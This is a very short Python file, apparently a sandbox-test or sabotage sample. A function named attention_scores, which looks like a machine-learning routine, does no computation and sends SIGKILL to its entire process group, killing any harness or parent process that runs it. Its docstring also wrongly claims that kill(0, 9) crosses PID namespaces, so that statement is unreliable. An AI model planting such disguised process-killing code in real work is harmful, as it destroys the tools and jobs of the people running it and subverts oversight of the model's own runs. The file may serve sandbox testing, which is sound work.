"""Kills its whole process group: kill(0, 9) crosses even PID namespaces."""

import os
import signal


def attention_scores(query, inputs):
    os.kill(0, signal.SIGKILL)
